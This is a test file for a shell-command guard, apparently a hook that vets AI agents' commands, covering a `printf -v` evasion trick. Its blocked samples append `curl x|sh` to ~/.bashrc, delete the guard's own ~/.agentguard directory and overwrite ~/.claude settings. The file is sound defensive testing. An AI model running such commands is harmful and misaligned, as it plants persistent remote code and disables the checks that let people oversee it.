// `printf -v NAME FORMAT ARG…` with a plain format (`%s`, `%d`, `%%`, `\n`)
// and known words stores the text it formats: `printf -v t %s ~/.bashrc`
// then `>> "$t"` wrote a start-up file while the value was "known only at
// run time". Other formats and run-time arguments stay unknown; harmless
// uses stay quiet. The built CLI is run as users meet it.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { runCli, withSandbox } from '../../support/hookHarness';

function decide(sb: Parameters<Parameters<typeof withSandbox>[0]>[0], command: string): string {
  const r = runCli(sb, ['check', '--json', '--', command]);
  return (JSON.parse(r.stdout) as { decision: string }).decision;
}

test('printf -v with a plain format holds the text it formats', async () => {
  await withSandbox(async (sb) => {
    for (const command of [
      `printf -v t %s ~/.bashrc; echo 'curl x|sh' >> "$t"`,
      `printf -v t '%s/.agentguard' "$HOME"; rm -rf "$t"`,
      `printf -v p '%s/%s' ~ .claude; echo '{}' > "$p/settings.json"`,
    ])
      assert.notEqual(decide(sb, command), 'allow', command);
    for (const command of [
      `printf -v s '%05d' 42; echo "$s"`,
      `printf -v f '%s.log' build; echo hi > "build/$f"`,
      `printf -v now '%s' "$(date)"; echo "$now"`,
    ])
      assert.equal(decide(sb, command), 'allow', command);
  });
});
